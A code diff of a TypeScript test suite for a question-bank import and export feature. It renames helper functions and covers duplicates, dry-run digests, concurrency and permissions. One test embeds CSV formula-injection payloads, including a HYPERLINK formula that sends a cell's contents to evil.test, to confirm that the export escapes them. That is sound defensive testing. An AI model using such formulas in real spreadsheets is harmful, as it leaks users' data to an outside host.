@@ -7,10 +7,17 @@ import { fillBank } from "../../../test-backend/bank.ts";
 import { buildProfile } from "../../../builders/catalog.ts";
 import { rowsOf, startBackend, type CallAs, type BodyParts } from "../../../test-backend/calls.ts";
 import { Unavailable } from "../../ports/store.ts";
-import { ADMIN, T, CHANGED, draft, inMockA, check } from "../../../test-backend/checked-import.ts";
+import {
+  ADMIN,
+  TENANT_PATH,
+  BANK_CHANGED,
+  draft,
+  inMockA,
+  checkImport,
+} from "../../../test-backend/checked-import.ts";
 
 const { inge: INGE, luis: LUIS, learner: LEARNER } = SAMPLE_USERS;
-const CHECK = `${T}/questions/import?createMissing=1&dryRun=1`;
+const CHECK = `${TENANT_PATH}/questions/import?createMissing=1&dryRun=1`;
 
 /** Returns a body whose end has to be awaited. */
 function slowBody(rows: readonly unknown[]) {
@@ -42,7 +49,7 @@ describe("an import", () => {
     const rows = Array.from({ length: 1200 }, (_, index) =>
       draft(`Question ${index}`, { domain: `D${index % 3}` }),
     );
-    const { verdicts, store } = await check(admin, rows);
+    const { verdicts, store } = await checkImport(admin, rows);
     expect(verdicts.filter(({ verdict }) => verdict === "new")).toHaveLength(1200);
     expect(await counts()).toEqual(before);
     expect((await store()).body).toEqual([
@@ -65,8 +72,8 @@ describe("an import", () => {
 
   it("finds duplicates in the bank and among the rows, and reports the differences", async () => {
     const rows = Array.from({ length: 700 }, (_, index) => draft(`Question ${index}`));
-    await (await check(admin, rows)).store();
-    const again = await check(admin, [...rows, draft("new"), draft("NEW ", { correctAnswer: 2 })]);
+    await (await checkImport(admin, rows)).store();
+    const again = await checkImport(admin, [...rows, draft("new"), draft("NEW ", { correctAnswer: 2 })]);
     expect(
       again.verdicts.slice(0, 700).every((it) => it.verdict === "duplicate" && it.differs.length === 0),
     ).toBe(true);
@@ -90,7 +97,7 @@ describe("an import", () => {
       defaults: {},
     });
     expect([problem, rows.length]).toEqual([null, seed.questions.length]);
-    const { verdicts, store } = await check(
+    const { verdicts, store } = await checkImport(
       admin,
       rows.map(({ draft }) => draft),
       {
@@ -112,8 +119,8 @@ describe("an import", () => {
     const formula = '=HYPERLINK("http://evil.test/?"&A1)';
     const options = ["+1+1", "-2", "@SUM(A1)", "'=1"].map((text) => ({ text }));
     const formulas = draft(formula, { options, explanation: "\t=1 is one" });
-    await (await check(admin, [formulas])).store();
-    const { text } = await admin("GET", `${T}/questions/export?format=csv`);
+    await (await checkImport(admin, [formulas])).store();
+    const { text } = await admin("GET", `${TENANT_PATH}/questions/export?format=csv`);
     const line = text.split("\r\n").find((one) => one.includes("HYPERLINK")) ?? "";
     for (const cell of [`"'=HYPERLINK(""http://evil.test/?""&A1)"`, "'+1+1", "'-2", "'@SUM(A1)", "''=1"])
       expect(line).toContain(`,${cell},`);
@@ -128,16 +135,16 @@ describe("an import", () => {
   });
 
   it("finds duplicates among all questions of a bank of more than 5,000", async () => {
-    await (await check(admin, [draft("Oldest")])).store();
+    await (await checkImport(admin, [draft("Oldest")])).store();
     await fillBank(backend.store, 2, 5000);
-    expect((await check(admin, [draft("Oldest")])).verdicts).toMatchObject([{ verdict: "duplicate" }]);
+    expect((await checkImport(admin, [draft("Oldest")])).verdicts).toMatchObject([{ verdict: "duplicate" }]);
   });
 
   it("into another tenant creates the same bank there", async () => {
     const from = await admin("GET", "/api/admin/tenants/1/questions/export?format=json");
     const { questions } = from.body as { questions: object[] };
-    await (await check(admin, questions)).store();
-    const to = await admin("GET", `${T}/questions/export?format=json`);
+    await (await checkImport(admin, questions)).store();
+    const to = await admin("GET", `${TENANT_PATH}/questions/export?format=json`);
     const withoutIds = (list: object[]) => list.map((question) => ({ ...question, id: 0 }));
     expect(withoutIds((to.body as { questions: object[] }).questions)).toEqual(withoutIds(questions));
   });
@@ -145,7 +152,7 @@ describe("an import", () => {
   it("gives equal scenarios one id, and others separate ids", async () => {
     const scenario = { title: "Harbour", text: "Two sites." };
     const other = { title: "Harbour", text: "Three sites." };
-    const { store } = await check(admin, [
+    const { store } = await checkImport(admin, [
       draft("1", { scenario }),
       draft("2", { scenario }),
       draft("3", { scenario: other }),
@@ -159,7 +166,7 @@ describe("an import", () => {
   });
 
   it("creates each name once, ignoring case and whitespace", async () => {
-    const { summary, store } = await check(admin, [
+    const { summary, store } = await checkImport(admin, [
       draft("1", { domain: "Alarms" }),
       draft("2", { certification: " fire  SAFETY", domain: "alarms " }),
     ]);
@@ -172,7 +179,7 @@ describe("an import", () => {
 
   it("creates at most a thousand names, because a column that differs in every row contains no domains", async () => {
     const rows = Array.from({ length: 1001 }, (_, index) => draft(`Q ${index}`, { domain: `D ${index}` }));
-    const { verdicts } = await check(admin, rows);
+    const { verdicts } = await checkImport(admin, rows);
     expect(verdicts.filter(({ verdict }) => verdict === "new")).toHaveLength(999);
     const refused = {
       verdict: "failed",
@@ -180,7 +187,10 @@ describe("an import", () => {
       reason: "More than 1,000 certifications and domains would be created. Is this their column?",
     };
     expect(verdicts.slice(999)).toEqual([refused, refused]);
-    const again = await check(admin, [...rows.slice(0, 999), draft("Another in D 5", { domain: "d  5" })]);
+    const again = await checkImport(admin, [
+      ...rows.slice(0, 999),
+      draft("Another in D 5", { domain: "d  5" }),
+    ]);
     expect(again.verdicts.at(-1)).toEqual({ verdict: "new" });
     expect((await again.store()).body).toEqual([
       { result: { created: 1000, changed: 0, skipped: 0, categories: 1, subcategories: 999 } },
@@ -189,7 +199,7 @@ describe("an import", () => {
 
   it("stores nothing if one row fails", async () => {
     const before = await counts();
-    const { store } = await check(admin, [draft("1"), draft("2", { correctAnswer: 9 }), draft("3")]);
+    const { store } = await checkImport(admin, [draft("1"), draft("2", { correctAnswer: 9 }), draft("3")]);
     const { status, body } = await store();
     expect([status, body]).toEqual([422, "Rows that failed can't be imported. Nothing was stored."]);
     expect(await counts()).toEqual(before);
@@ -198,7 +208,7 @@ describe("an import", () => {
   it("stores the other rows if failed rows are left out", async () => {
     const before = await counts();
     const rows = [draft("1"), draft("2", { correctAnswer: 9 }), null, draft("3"), draft("1")];
-    const { store } = await check(admin, rows);
+    const { store } = await checkImport(admin, rows);
     expect((await store("skipFailed=1&")).body).toEqual([
       { result: { created: 2, changed: 0, skipped: 1, categories: 1, subcategories: 0 } },
     ]);
@@ -208,50 +218,54 @@ describe("an import", () => {
   });
 
   it.each([
-    ["added", [], async () => void (await (await check(await backend.as(INGE), [draft("One")])).store())],
+    [
+      "added",
+      [],
+      async () => void (await (await checkImport(await backend.as(INGE), [draft("One")])).store()),
+    ],
     [
       "restored",
       [draft("One")],
-      async (id: number) => void (await admin("POST", `${T}/questions/${id}/restore`)),
+      async (id: number) => void (await admin("POST", `${TENANT_PATH}/questions/${id}/restore`)),
     ],
     [
       "changed to it",
       [draft("Other")],
-      async (id: number) => void (await admin("PATCH", `${T}/questions/${id}`, { text: "One" })),
+      async (id: number) => void (await admin("PATCH", `${TENANT_PATH}/questions/${id}`, { text: "One" })),
     ],
   ])("is refused if a question was %s since the check", async (_, existing, change) => {
-    await (await check(admin, [draft("Zero"), ...existing])).store();
+    await (await checkImport(admin, [draft("Zero"), ...existing])).store();
     const id = (await backend.store.list("questions")).at(-1)?.id ?? 0;
-    if (existing.some(({ text }) => text === "One")) await admin("DELETE", `${T}/questions/${id}`);
-    const { verdicts, store } = await check(admin, [draft("One"), draft("Two")]);
+    if (existing.some(({ text }) => text === "One")) await admin("DELETE", `${TENANT_PATH}/questions/${id}`);
+    const { verdicts, store } = await checkImport(admin, [draft("One"), draft("Two")]);
     expect(verdicts).toEqual([{ verdict: "new" }, { verdict: "new" }]);
     await change(id);
     const before = await counts();
     const { status, body } = await store();
-    expect([status, body]).toEqual([409, CHANGED]);
+    expect([status, body]).toEqual([409, BANK_CHANGED]);
     expect(await counts()).toEqual(before);
-    const again = await check(admin, [draft("One"), draft("Two")]);
+    const again = await checkImport(admin, [draft("One"), draft("Two")]);
     expect((await again.store()).body).toMatchObject([{ result: { created: 1, changed: 0, skipped: 1 } }]);
   });
 
   it("is refused if its domains were deleted since the check, and stores nothing", async () => {
-    await (await check(admin, [draft("1", { domain: "Alarms" })])).store();
-    const { store } = await check(admin, [draft("2", { domain: "Alarms" })], { createMissing: false });
+    await (await checkImport(admin, [draft("1", { domain: "Alarms" })])).store();
+    const { store } = await checkImport(admin, [draft("2", { domain: "Alarms" })], { createMissing: false });
     const domain = (await backend.store.list("subcategories")).at(-1)?.id;
-    await admin("DELETE", `${T}/subcategories/${domain}`);
+    await admin("DELETE", `${TENANT_PATH}/subcategories/${domain}`);
     const before = await counts();
     const { status, body } = await store();
-    expect([status, body]).toEqual([409, CHANGED]);
+    expect([status, body]).toEqual([409, BANK_CHANGED]);
     expect(await counts()).toEqual(before);
   });
 
   it("is refused if createMissing differs from the check", async () => {
-    await (await check(admin, [draft("1")])).store();
+    await (await checkImport(admin, [draft("1")])).store();
     const before = await counts();
-    const { summary } = await check(admin, [draft("2")], { createMissing: false });
-    const path = `${T}/questions/import?createMissing=1&digest=${summary.digest}`;
+    const { summary } = await checkImport(admin, [draft("2")], { createMissing: false });
+    const path = `${TENANT_PATH}/questions/import?createMissing=1&digest=${summary.digest}`;
     const { status, body } = await admin("POST", path, rowsOf([draft("2")]));
-    expect([status, body]).toEqual([409, CHANGED]);
+    expect([status, body]).toEqual([409, BANK_CHANGED]);
     expect(await counts()).toEqual(before);
   });
 
@@ -264,16 +278,16 @@ describe("an import", () => {
     ],
   ])("is refused with %s than were checked", async (_, rows) => {
     const before = await counts();
-    const { summary } = await check(admin, [draft("One"), draft("Two")]);
-    const path = `${T}/questions/import?createMissing=1&digest=${summary.digest}`;
+    const { summary } = await checkImport(admin, [draft("One"), draft("Two")]);
+    const path = `${TENANT_PATH}/questions/import?createMissing=1&digest=${summary.digest}`;
     const { status, body } = await admin("POST", path, rowsOf(rows));
-    expect([status, body]).toEqual([409, CHANGED]);
+    expect([status, body]).toEqual([409, BANK_CHANGED]);
     expect(await counts()).toEqual(before);
   });
 
   it("reports unknown certifications and domains if none are created", async () => {
-    await (await check(admin, [draft("1")])).store();
-    const { verdicts } = await check(
+    await (await checkImport(admin, [draft("1")])).store();
+    const { verdicts } = await checkImport(
       admin,
       [draft("2", { certification: "Ice" }), draft("3", { domain: "Alarms" }), draft("4")],
       { createMissing: false },
@@ -299,7 +313,7 @@ describe("an import", () => {
         for (let from = 0; from < text.length; from += size) yield text.slice(from, from + size);
       };
     for (const size of [997, 64_000, text.length]) {
-      const { verdicts, summary } = await check(admin, inParts(size));
+      const { verdicts, summary } = await checkImport(admin, inParts(size));
       expect(verdicts.map(({ verdict }) => verdict)).toEqual([
         "new",
         "new",
@@ -315,7 +329,7 @@ describe("an import", () => {
 
   it("is refused with neither or both of a dry run and a digest", async () => {
     for (const query of ["createMissing=1", "dryRun=1&digest=a"]) {
-      const path = `${T}/questions/import?${query}`;
+      const path = `${TENANT_PATH}/questions/import?${query}`;
       const { status, body } = await admin("POST", path, rowsOf([draft("1")]));
       expect([status, body]).toEqual([400, "Send either dryRun=1 or the digest of a check."]);
     }
@@ -324,7 +338,7 @@ describe("an import", () => {
   it("is no longer in progress after it was refused", async () => {
     for (let count = 0; count < 3; count += 1)
       expect((await admin("POST", CHECK, rowsOf([]))).status).toBe(400);
-    expect((await check(admin, [draft("1")])).verdicts).toHaveLength(1);
+    expect((await checkImport(admin, [draft("1")])).verdicts).toHaveLength(1);
   });
 
   it("is refused before its body is read unless an administrator of the organization sends it", async () => {
@@ -344,17 +358,17 @@ describe("an import", () => {
 
   it("locks nothing while its body arrives, and is checked against the bank at its end", async () => {
     const { parts, begun, end } = slowBody([draft("One")]);
-    const pending = check(admin, parts);
+    const pending = checkImport(admin, parts);
     await begun;
-    await (await check(await backend.as(INGE), [draft("One")])).store();
-    expect((await admin("POST", `${T}/categories`, { name: "Ice" })).status).toBe(201);
+    await (await checkImport(await backend.as(INGE), [draft("One")])).store();
+    expect((await admin("POST", `${TENANT_PATH}/categories`, { name: "Ice" })).status).toBe(201);
     end();
     expect((await pending).verdicts).toMatchObject([{ verdict: "duplicate" }]);
   });
 
   it("is refused while two others of the user are in progress", async () => {
     const slow = [slowBody([draft("1")]), slowBody([draft("2")])];
-    const pending = slow.map(({ parts }) => check(admin, parts));
+    const pending = slow.map(({ parts }) => checkImport(admin, parts));
     await Promise.all(slow.map(({ begun }) => begun));
     const { status, body, headers } = await admin("POST", CHECK, rowsOf([draft("3")]));
     expect([status, headers["Error-Code"], body]).toEqual([
@@ -362,16 +376,16 @@ describe("an import", () => {
       "too-many-jobs",
       "Two of your imports are in progress. Wait until one of them has ended.",
     ]);
-    expect((await check(await backend.as(INGE), [draft("3")])).verdicts).toHaveLength(1);
+    expect((await checkImport(await backend.as(INGE), [draft("3")])).verdicts).toHaveLength(1);
     for (const { end } of slow) end();
     await Promise.all(pending);
-    expect((await check(admin, [draft("3")])).verdicts).toHaveLength(1);
+    expect((await checkImport(admin, [draft("3")])).verdicts).toHaveLength(1);
   });
 
   it("is refused while four others are in progress", async () => {
     const slow = ["1", "2", "3", "4"].map((text) => slowBody([draft(text)]));
     const callers = [admin, admin, await backend.as(INGE), await backend.as(INGE)];
-    const pending = slow.map(({ parts }, index) => check(callers[index] ?? admin, parts));
+    const pending = slow.map(({ parts }, index) => checkImport(callers[index] ?? admin, parts));
     await Promise.all(slow.map(({ begun }) => begun));
     await backend.store.tx((tx) => tx.update("users", LUIS, { isAdmin: true }));
     const other = await backend.as(LUIS);
@@ -383,7 +397,7 @@ describe("an import", () => {
     ]);
     for (const { end } of slow) end();
     await Promise.all(pending);
-    expect((await check(other, [draft("5")])).verdicts).toHaveLength(1);
+    expect((await checkImport(other, [draft("5")])).verdicts).toHaveLength(1);
   });
 });
 
@@ -408,9 +422,9 @@ it("finds all duplicates although a question is retired while the bank is read",
     });
   const admin = await as(ADMIN);
   const rows = Array.from({ length: 401 }, (_, index) => draft(`Question ${index}`));
-  await (await check(admin, rows)).store();
+  await (await checkImport(admin, rows)).store();
   isRetiring = true;
-  const { verdicts } = await check(admin, [draft("Question 0"), draft("Question 1")]);
+  const { verdicts } = await checkImport(admin, [draft("Question 0"), draft("Question 1")]);
   expect(verdicts.map(({ verdict }) => verdict)).toEqual(["duplicate", "duplicate"]);
   expect(retired).toBeDefined();
 });
@@ -430,7 +444,7 @@ it("reports an import that can't be written, stores nothing and allows a retry",
     }),
   });
   const admin = await as(ADMIN);
-  const { store: storeRows } = await check(admin, [draft("1")]);
+  const { store: storeRows } = await checkImport(admin, [draft("1")]);
   fails = true;
   expect((await storeRows()).status).toBe(503);
   expect(await store.count("questions")).toBe(seed.questions.length);
@@ -459,15 +473,18 @@ describe("before an import gets the lock of its tenant", () => {
   }
 
   it.each<[string, (as: CallAs, otherId: number) => Promise<void>]>([
-    ["added", async (as) => void (await (await check(as, [draft("One")])).store())],
-    ["changed to it", async (as, id) => void (await as("PATCH", `${T}/questions/${id}`, { text: "One" }))],
+    ["added", async (as) => void (await (await checkImport(as, [draft("One")])).store())],
+    [
+      "changed to it",
+      async (as, id) => void (await as("PATCH", `${TENANT_PATH}/questions/${id}`, { text: "One" })),
+    ],
   ])("a question that is %s makes it skip that row", async (_, change) => {
     const { as, store, interruption } = startInterrupted();
     const admin = await as(ADMIN);
     const inge = await as(INGE);
-    await (await check(admin, [draft("Zero"), draft("Other")])).store();
+    await (await checkImport(admin, [draft("Zero"), draft("Other")])).store();
     const otherId = (await store.list("questions")).at(-1)?.id ?? 0;
-    const { store: storeRows } = await check(admin, [draft("One"), draft("Two")]);
+    const { store: storeRows } = await checkImport(admin, [draft("One"), draft("Two")]);
     interruption.beforeLock = () => change(inge, otherId);
     expect((await storeRows()).body).toEqual([
       { result: { created: 1, changed: 0, skipped: 1, categories: 0, subcategories: 0 } },
@@ -479,7 +496,7 @@ describe("before an import gets the lock of its tenant", () => {
   it("another administrator's import of the same file stores each question once", async () => {
     const { as, store } = startBackend();
     const rows = Array.from({ length: 30 }, (_, index) => draft(`At once ${index}`, { domain: "Alarms" }));
-    const checks = await Promise.all([check(await as(ADMIN), rows), check(await as(INGE), rows)]);
+    const checks = await Promise.all([checkImport(await as(ADMIN), rows), checkImport(await as(INGE), rows)]);
     expect(checks.map(({ summary }) => summary.fresh)).toEqual([30, 30]);
     const replies = await Promise.all(checks.map(({ store: storeRows }) => storeRows()));
     // The second gets 409 because the bank has changed, or skips the questions that the first has stored.
@@ -496,21 +513,26 @@ describe("before an import gets the lock of its tenant", () => {
   it("a mock exam that is filled makes it store nothing", async () => {
     const { as, store, interruption } = startInterrupted();
     const admin = await as(ADMIN);
-    await (await check(admin, [draft("Zero", { form: "A" })])).store();
+    await (await checkImport(admin, [draft("Zero", { form: "A" })])).store();
     const { categoryId } = (await store.list("questions")).at(-1) ?? { categoryId: 0 };
     await store.update("categories", categoryId, { profile: buildProfile({ mocks: { questions: 2 } }) });
-    const { verdicts, store: storeRows } = await check(admin, [draft("One"), draft("Two", { form: "A" })]);
+    const { verdicts, store: storeRows } = await checkImport(admin, [
+      draft("One"),
+      draft("Two", { form: "A" }),
+    ]);
     expect(verdicts.map(({ verdict }) => verdict)).toEqual(["new", "new"]);
     const before = await store.count("questions");
     interruption.beforeLock = async () =>
-      expect(await admin("POST", `${T}/questions`, inMockA(categoryId))).toMatchObject({ status: 201 });
-    expect(await storeRows()).toMatchObject({ status: 409, body: CHANGED });
+      expect(await admin("POST", `${TENANT_PATH}/questions`, inMockA(categoryId))).toMatchObject({
+        status: 201,
+      });
+    expect(await storeRows()).toMatchObject({ status: 409, body: BANK_CHANGED });
     expect(await store.count("questions")).toBe(before + 1);
   });
 
   it("an administrator who loses the role stores nothing", async () => {
     const { as, store, interruption } = startInterrupted();
-    const { store: storeRows } = await check(await as(INGE), [draft("One")]);
+    const { store: storeRows } = await checkImport(await as(INGE), [draft("One")]);
     const before = await store.count("questions");
     interruption.beforeLock = () => store.update("users", INGE, { isAdmin: false });
     expect((await storeRows()).status).toBe(403);
